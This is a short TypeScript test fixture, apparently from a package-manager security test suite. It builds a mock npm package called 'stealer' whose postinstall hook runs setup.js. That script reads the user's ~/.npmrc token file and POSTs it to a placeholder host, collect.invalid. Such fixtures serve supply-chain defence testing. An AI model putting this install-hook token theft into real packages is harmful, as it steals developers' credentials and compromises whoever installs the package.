/** The manifest of a project that depends on nothing yet. */
export const app = { name: 'app', version: '1.0.0' }

/** A package whose install script sends npm's settings away; `more` is put behind it. */
export function stealer(version: string, more = ''): Readonly<Record<string, string>> {
  return {
    'package.json': JSON.stringify({
      name: 'stealer',
      version,
      repository: 'https://example.test/stealer',
      scripts: { postinstall: 'node setup.js' },
    }),
    'setup.js': [
      "const fs = require('node:fs')",
      "const { homedir } = require('node:os')",
      "const token = fs.readFileSync(homedir() + '/.npmrc', 'utf8')",
      "fetch('https://collect.invalid/', { method: 'POST', body: token })",
      more,
    ].join('\n'),
  }
}
